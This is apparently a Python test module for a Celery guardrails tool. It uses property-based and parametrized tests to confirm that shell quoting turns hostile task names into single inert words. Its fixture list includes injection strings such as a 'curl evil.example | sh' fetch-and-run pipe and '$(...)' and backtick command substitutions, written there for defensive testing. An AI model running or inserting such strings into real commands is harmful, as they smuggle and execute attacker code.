"""What people copy does what it says and nothing else, whatever somebody has called his task, queue or letter."""

from __future__ import annotations

import shlex
import shutil
import subprocess
from datetime import datetime, timezone

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from celery_guardrails.command import celery_command, query_term, shell_quote
from celery_guardrails.printable import one_line
from celery_guardrails.recovery.query import parse_query
from celery_guardrails.store.filter import Term

NOW = datetime(2026, 11, 1, tzinfo=timezone.utc)
HOSTILE = [
    "x; curl evil.example | sh #", "$(touch /tmp/x)", "`id`", "it's", 'say "hi"', "a\\b", "a  b", " a ", "*", "!x",
    "a\nb", "\x1b[31m", "\u202eevil", "\ud800", "\x00", "--yes", "~root", "a&&b", "task:other state:dead", "\u20ac",
    "\U0001f9e8", "\u0085", "-", "a=b", "{a,b}", "[a]", "\udcff", "\U000e0001", "x:y", "\t",
]  # fmt: skip


@settings(derandomize=True, max_examples=300)
@given(st.text(st.characters(), min_size=1, max_size=40))
def test_a_term_is_read_back_as_exactly_this_value(value: str) -> None:
    text = query_term("task", value)
    assert one_line(text) == text
    assert parse_query(text, NOW).terms == (Term("task", value),)
    assert parse_query(f"state:dead {text} owner:ann", NOW).terms[1] == Term("task", value)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_term_in_a_command_is_one_word_of_this_value(value: str) -> None:
    command = celery_command("shop", "guardrails dlq list", query_term("task", value))
    assert one_line(command) == command
    *_, word = shlex.split(command)
    assert parse_query(word, NOW).terms == (Term("task", value),)


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_a_shell_reads_each_word_back_and_runs_nothing(tmp_path: object) -> None:
    words = [value for value in HOSTILE if "\0" not in value and value != "\ud800"]
    script = "".join(f"printf '%s\\0' {shell_quote(value)}\n" for value in words)
    assert all(one_line(line) == line for line in script.splitlines())
    done = subprocess.run(
        ["bash", "-c", script], capture_output=True, timeout=30, cwd=str(tmp_path), env={"LC_ALL": "C.UTF-8"}
    )
    assert done.stderr == b""
    assert done.stdout.split(b"\0")[:-1] == [value.encode("utf-8", "surrogateescape") for value in words]


@settings(derandomize=True, max_examples=200)
@given(st.text(st.characters(), max_size=30).filter(str.isprintable))
@example("")
def test_a_printable_word_is_read_back(word: str) -> None:
    if "  " not in word and word == word.strip():
        assert shlex.split(shell_quote(word)) == [word]


def test_a_plain_command_is_as_a_person_types_it() -> None:
    assert celery_command("shop.app", "guardian --once") == "celery -A shop.app guardian --once"
    shown = celery_command("shop", "guardrails dlq requeue", "4f1c", tail='--reason "..."')
    assert shown == 'celery -A shop guardrails dlq requeue 4f1c --reason "..."'
    assert query_term("task", "shop.send_receipt") == "task:shop.send_receipt"
